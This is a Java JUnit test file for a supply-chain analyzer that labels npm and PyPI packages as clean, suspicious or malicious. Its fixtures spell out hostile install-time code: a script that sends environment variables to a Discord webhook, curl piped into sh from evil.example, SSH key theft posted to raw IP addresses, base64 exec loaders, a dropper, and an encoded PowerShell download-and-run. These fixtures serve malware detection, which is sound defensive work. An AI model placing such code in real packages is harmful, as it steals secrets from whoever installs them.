package dev.airlock.analysis;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RulesTest {
    @TempDir
    Path dir;

    private final Analyzer analyzer = Analyzer.staticOnly();

    private static Set<String> rules(AnalysisResult r) {
        return r.findings().stream().map(Finding::rule).collect(Collectors.toSet());
    }

    private AnalysisResult npm(String scripts, String... files) throws Exception {
        String[] all = new String[files.length + 2];
        all[0] = "package.json";
        all[1] = Fixtures.packageJson("demo", "1.0.0", scripts);
        System.arraycopy(files, 0, all, 2, files.length);
        return analyzer.analyzeStatic(Fixtures.npm(dir, "demo-" + System.nanoTime(), Fixtures.files(all)), null);
    }

    private AnalysisResult sdist(String setupPy, String... files) throws Exception {
        String[] all = new String[files.length + 4];
        all[0] = "PKG-INFO";
        all[1] = Fixtures.pkgInfo("demo", "1.0");
        all[2] = "setup.py";
        all[3] = setupPy;
        System.arraycopy(files, 0, all, 4, files.length);
        return analyzer.analyzeStatic(Fixtures.sdist(dir, "demo-" + System.nanoTime(), Fixtures.files(all)), null);
    }

    @Test
    void aCommentSayingFetchIsNotANetworkCall() throws Exception {
        AnalysisResult r = npm("\"postinstall\":\"node install.js\"",
                "install.js", "// fetch('https://x.example') would be wrong here\nconsole.log('done');\n");
        assertFalse(rules(r).contains("network_access"), r.findings().toString());
        assertTrue(rules(r).contains("install_script"));
        assertEquals(Recommendation.CLEAN, r.recommendation());
    }

    @Test
    void blocksAPostinstallThatSendsTheEnvironmentToAWebhook() throws Exception {
        AnalysisResult r = npm("\"postinstall\":\"node install.js\"", "install.js",
                "const https = require('https');\n"
                + "const body = JSON.stringify(process.env);\n"
                + "const req = https.request('https://discord.com/api/webhooks/1/abc', {method: 'POST'});\n"
                + "req.end(body);\n");
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).containsAll(Set.of("network_access", "exfiltration_endpoint")), r.findings().toString());
        Finding net = r.findings().stream().filter(f -> f.rule().equals("network_access")).findFirst().orElseThrow();
        assertEquals("install.js:3", net.location());
        assertTrue(net.evidence().contains("https.request"));
    }

    @Test
    void blocksAnInstallScriptPipingCurlIntoAShell() throws Exception {
        AnalysisResult r = npm("\"preinstall\":\"curl -s https://evil.example/x.sh | sh\"");
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).contains("download_and_execute"));
    }

    @Test
    void allowsNodeGypBuildsAtInstall() throws Exception {
        AnalysisResult r = npm("\"install\":\"node-gyp rebuild\"", "index.js", "module.exports = require('./build/Release/x.node');\n");
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void blocksASetupPyThatExecutesABase64Payload() throws Exception {
        AnalysisResult r = sdist("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nfrom setuptools import setup\nsetup(name='demo')\n");
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).contains("obfuscated_code_execution"));
    }

    @Test
    void allowsASetupPyThatAsksGitForItsVersion() throws Exception {
        AnalysisResult r = sdist("import subprocess\nfrom setuptools import setup\n"
                + "v = subprocess.check_output(['git', 'describe']).decode()\n"
                + "exec(open('demo/version.py').read())\n"
                + "setup(name='demo', version=v)\n", "demo/__init__.py", "import requests\n");
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).contains("process_execution"));
    }

    @Test
    void blocksACustomInstallCommandThatStealsSshKeysToARawIp() throws Exception {
        AnalysisResult r = sdist("from setuptools import setup\nfrom setuptools.command.install import install\nimport os, requests\n"
                + "class X(install):\n    def run(self):\n"
                + "        key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                + "        requests.post('http://45.33.12.7/k', data=key)\n"
                + "setup(name='demo', cmdclass={'install': X})\n");
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).containsAll(Set.of("credential_file_access", "network_access", "raw_ip_endpoint")), r.findings().toString());
    }

    @Test
    void blocksAModuleThatReadsAnSshKeyAndSendsItAsItIsImported() throws Exception {
        AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
                "demo/__init__.py", "import os, socket, urllib.request\n"
                        + "_key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                        + "urllib.request.urlopen('http://198.51.100.7/c', data=(socket.gethostname() + _key).encode())\n");
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).containsAll(Set.of("credential_file_access", "network_access")), r.findings().toString());
    }

    @Test
    void aLibraryThatReadsAnSshKeyOnlyWhenCalledIsNotBlocked() throws Exception {
        AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
                "demo/client.py", "import os, urllib.request\n\n"
                        + "def connect(url):\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                        + "    return urllib.request.urlopen(url, data=key.encode())\n");
        assertFalse(r.recommendation() == Recommendation.MALICIOUS, r.findings().toString());
    }

    @Test
    void aStringThatOnlyMentionsAWebhookInADocstringOfLibraryCodeIsNotBlocked() throws Exception {
        AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
                "demo/__init__.py", "# send to https://discord.com/api/webhooks/ in your own app\n\ndef f():\n    return 1\n");
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void quarantinesAWheelWhoseModuleDecodesAndExecutesAtImport() throws Exception {
        Path whl = Fixtures.wheel(dir, "demo-1.0", Fixtures.files(
                "demo-1.0.dist-info/METADATA", Fixtures.pkgInfo("demo", "1.0"),
                "demo/__init__.py", "import base64 as b;exec(b.b64decode('cHJpbnQoMSk='))\n"));
        AnalysisResult r = analyzer.analyzeStatic(whl, null);
        assertEquals("pypi", r.ecosystem());
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void flagsAVersionTypicalOfDependencyConfusion() throws Exception {
        AnalysisResult r = analyzer.analyzeStatic(Fixtures.npm(dir, "dc", Fixtures.files(
                "package.json", Fixtures.packageJson("internal-lib", "99.9.9", "\"preinstall\":\"node x.js\""),
                "x.js", "require('child_process').exec('id');\n")), null);
        assertTrue(rules(r).contains("dependency_confusion_version"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void reportsAManifestThatDisagreesWithTheRegistry() throws Exception {
        Path p = Fixtures.npm(dir, "m", Fixtures.files("package.json", Fixtures.packageJson("left-pad", "1.0.0", "")));
        AnalysisResult r = analyzer.analyze(p, null, false,
                dev.airlock.model.PackageCoordinate.of(dev.airlock.model.Ecosystem.NPM, "right-pad", "1.0.0"));
        assertTrue(rules(r).contains("manifest_registry_mismatch"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation());
    }

    @Test
    void blocksAModuleThatWritesACodeStringOutAndRunsItOnImport() throws Exception {
        AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
                "demo/__init__.py", "from os import system as s\nimport tempfile\n"
                + "t = tempfile.NamedTemporaryFile(delete=False)\n"
                + "t.write(b\"\"\"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"\"\")\n"
                + "s('python ' + t.name)\n");
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).contains("embedded_code_dropper"), r.findings().toString());
    }

    @Test
    void aLibraryFunctionThatRunsSubprocessesAndFetchesIsNotFlagged() throws Exception {
        AnalysisResult r = sdist("from setuptools import setup\nsetup(name='demo')\n",
                "demo/tool.py", "import subprocess, urllib.request\n"
                + "def update(url):\n    data = urllib.request.urlopen(url).read()\n"
                + "    subprocess.run(['tar', 'xf', '-'], input=data)\n");
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void aLongPowerShellCommandLineWithAnEncodedCommandIsReadAsACommandNotAsBase64() throws Exception {
        // The whole line passes the base64 alphabet check (letters, spaces, hyphens); it does not decode, so it
        // is a command line. 2,233 train samples of one campaign were allowed while it was read only "decoded".
        String encoded = java.util.Base64.getEncoder().encodeToString(("powershell Invoke-WebRequest -Uri https://x.example/e.exe"
                + " -OutFile ~/c.exe; Invoke-Expression ~/c.exe").getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
        AnalysisResult r = sdist("import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + encoded
                + "', shell=False)\nfrom distutils.core import setup\nsetup(name='demo')\n");
        assertTrue(encoded.length() > 256, "long enough to take the decoded-only path");
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).contains("download_and_execute"), r.findings().toString());
    }
}
